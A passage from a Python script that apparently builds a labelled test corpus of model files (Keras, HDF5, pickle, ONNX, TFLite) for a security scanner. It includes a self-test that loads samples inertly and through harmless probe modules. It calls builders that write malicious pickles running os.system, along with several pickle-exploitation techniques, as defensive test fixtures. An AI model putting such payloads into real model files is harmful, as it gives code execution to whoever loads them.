            via_file(lambda p: lam.save(p + ".keras") or os.rename(p + ".keras", p)),
            "unapproved", "unapproved:keras_lambda", "Keras' own save of a Lambda layer (x * 2): bytecode, so unapproved")
    # Legacy HDF5 saves (h5py writes the configs as variable-length strings in a global heap).
    out.add(R + "keras_sequential.h5", via_file(lambda p: seq.save(p + ".h5") or os.rename(p + ".h5", p)),
            "clean", "real:keras_h5", "the same Sequential saved in the legacy HDF5 format (model and training config)")
    out.add(R + "keras_functional.h5", via_file(lambda p: fun.save(p + ".h5") or os.rename(p + ".h5", p)),
            "clean", "real:keras_h5", "the functional model saved in the legacy HDF5 format")
    out.add(R + "keras_sequential.weights.h5",
            via_file(lambda p: seq.save_weights(p + ".weights.h5") or os.rename(p + ".weights.h5", p)),
            "clean", "real:hdf5", "Model.save_weights: an HDF5 weights file, no model config")
    out.add("unapproved/real_keras_lambda.h5", via_file(lambda p: lam.save(p + ".h5") or os.rename(p + ".h5", p)),
            "unapproved", "unapproved:keras_lambda", "Keras' legacy HDF5 save of a Lambda layer (x * 2)")
def write_real_tensor_files(out):
    tmp = os.path.join(out.root, ".tmp_real_tensors")
    os.makedirs(tmp, exist_ok=True)
    tensor_files.write_real(out, tmp)
    os.rmdir(tmp)


# --------------------------------------------------------------------------
# Self-test: static disassembly + inert loading of benign streams and probe twins
# --------------------------------------------------------------------------

_CALLS = []


def _probe_class(tag):
    """A fresh inert class per global: calling it records the call, BUILD is a no-op."""
    class P:
        def __init__(self, *a, **k):
            _CALLS.append((tag, a, k))

        def __setstate__(self, state):
            pass

        def __call__(self, *a, **k):
            _CALLS.append((tag + "()", a, k))
            return self
    P.__name__ = P.__qualname__ = tag
    return P


class InertUnpickler(pickle.Unpickler):
    """find_class never imports: every global becomes an inert recorder."""

    def find_class(self, module, name):
        if (module, name) in (("collections", "OrderedDict"),):
            import collections
            return collections.OrderedDict
        if module == "copyreg" and name == "add_extension":
            return _probe_add_extension
        return _probe_class(f"{module}.{name}")

    def persistent_load(self, pid):
        return ("persistent", pid)


def _probe_add_extension(mod, name, code):
    raise pickle.UnpicklingError("selftest refuses copyreg.add_extension in inert loads")


def inert_load(data):
    return InertUnpickler(io.BytesIO(data)).load()


def selftest(root):
    items = json.load(open(os.path.join(root, "manifest.json")))
    bad = 0
    for it in items:
        path = os.path.join(root, it["path"])
        data = open(path, "rb").read()
        if it["path"].endswith(".pkl") and it["expect"] in ("clean", "unapproved"):
            try:
                pickletools.dis(data, out=io.StringIO())
                inert_load(data)
            except Exception as e:  # noqa: BLE001
                print("FAIL benign", it["path"], e)
                bad += 1
        elif it["path"].endswith(".pkl") and it["expect"] == "malicious" and it["path"].startswith("malicious/gadgets"):
            try:
                pickletools.dis(data, out=io.StringIO())
            except Exception as e:  # noqa: BLE001
                print("FAIL dis", it["path"], e)
                bad += 1
    # Probe twins: the same builders around a probe module put in sys.modules,
    # loaded with the real C unpickler (pickle.loads: in-memory, like np.load's
    # pickle.loads path); the probe must be reached with the argument 'x'.
    import copyreg
    import types
    hits = []

    class Recorder:  # a callable object: like a builtin, it does not bind as a method
        def __call__(self, *a):
            hits.append(a)

    class Cls:
        pass
    probe = types.ModuleType("aigis_probe")
    probe.hit = Recorder()
    probe.Cls = Cls
    sys.modules["aigis_probe"] = probe
    twins = {
        "memo_stack_global": lambda: tech_memo_stack_global("aigis_probe", "hit", "x"),
        "memo_put_memoize_confusion": lambda: tech_memo_put_memoize_confusion("aigis_probe", "hit", "x"),
        "memo_callable": lambda: tech_memo_callable("aigis_probe", "hit", "x"),
        "inst": lambda: tech_inst("aigis_probe", "hit", "x"),
        "obj": lambda: tech_obj("aigis_probe", "hit", "x"),
        "ext1": lambda: tech_ext(1, "aigis_probe", "hit", "x"),
        "ext2": lambda: tech_ext(2, "aigis_probe", "hit", "x"),
        "ext4": lambda: tech_ext(4, "aigis_probe", "hit", "x"),
        "frame_straddle": lambda: tech_frame_straddle("aigis_probe", "hit", "x"),
        "build_class_setstate": lambda: tech_build_class_setstate("aigis_probe", "hit", "x", ("aigis_probe", "Cls")),
    }
    try:
        for name, build in twins.items():
            hits.clear()
            try:
                pickle.loads(build())
            except Exception as e:  # noqa: BLE001
                print("FAIL twin", name, repr(e))
                bad += 1
                continue
            finally:
                for code in (0xE1, 0x4A1B, 0x10C0FFE):
                    if copyreg._inverted_registry.get(code) == ("aigis_probe", "hit"):
                        copyreg.remove_extension("aigis_probe", "hit", code)
            if ("x",) not in hits:
                print("FAIL twin", name, "probe not reached", hits)
                bad += 1
    finally:
        del sys.modules["aigis_probe"]
    print(f"selftest: {len(items)} files, {bad} failures")
    return bad == 0


def main(argv):
    args = [a for a in argv if not a.startswith("--")]
    flags = {a for a in argv if a.startswith("--")}
    if len(args) != 1 or flags - {"--demo", "--real", "--selftest"}:
        print(__doc__)
        return 2
    root = args[0]
    os.makedirs(root, exist_ok=True)
    out = Out(root)
    if "--demo" in flags:
        write_demo(out)
    else:
        write_gadgets(out)
        write_techniques(out)
        write_containers(out)
        write_edge(out)
        write_keras(out)
        write_tensorflow(out)
        write_repos(out)
        write_benign(out)
        tensor_files.write(out, lambda: os_system_pickle(2))
        gen_onnx.write(out, os_system_pickle(2), CMD)
        gen_tflite.write(out)
        if "--real" in flags:
            write_real(out)
            write_real_tensor_files(out)
            gen_onnx.write_real(out)
            gen_tflite.write_real(out)
    out.write_manifest()
    counts = {}
    for it in out.items:
        counts[it["expect"]] = counts.get(it["expect"], 0) + 1
    print(f"wrote {len(out.items)} files to {root}: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))
    if "--selftest" in flags:
        return 0 if selftest(root) else 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
